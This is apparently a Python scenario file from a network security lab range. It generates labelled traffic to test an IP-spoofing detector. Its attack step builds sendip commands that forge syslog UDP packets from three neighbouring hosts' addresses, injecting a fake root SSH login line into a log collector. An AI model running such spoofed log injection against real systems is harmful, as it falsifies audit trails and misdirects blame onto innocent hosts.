"""Forged log lines: sendip writes to the log server in the name of three neighbours."""

from lab.range import Range
from lab.scenario import Scenario

LINE = "<38>sshd[4711]: Accepted password for root from 198.51.100.9 port 50022 ssh2"


def run(net: Range) -> None:
    attacker, collector = net.inside("attacker"), net.inside("loghost", 51)
    claimed = [net.inside("pc1"), net.inside("pc2"), net.inside("pc4")]
    collector.start("socat", "-u", "UDP4-RECV:514", "OPEN:/dev/null")
    net.everyday()
    for host in (*claimed, attacker):
        net.loop(host, f"logger -n {collector.ip} -P 514 -d cron: session opened", 1.4)
    net.quiet(4)
    with net.attack(
        "ip-spoofing",
        by=attacker,
        victims=[collector],
        attacker_known=False,
        others={"claimed": claimed, "sender": [attacker.mac]},
        frames=f"udp and dst host {collector.ip} and dst port 514 and not src host {attacker.ip}",
    ):
        sends = "; ".join(
            f"sendip -p ipv4 -is {host.ip} -p udp -us 514 -ud 514 -d '{LINE}' {collector.ip}"
            for host in claimed
        )
        script = f"for round in $(seq 14); do {sends}; sleep 0.5; done"
        net.tool(attacker, "sh", "-c", script)
    net.quiet(3)


SCENARIO = Scenario(
    name="ip-spoofing-held-syslog",
    about="sendip sends a log server false lines in the name of three neighbours that log there as well.",
    detectors=("ip-spoofing",),
    tools={"sendip": "sendip", "logger": "bsdutils", "socat": "socat"},
    run=run,
)
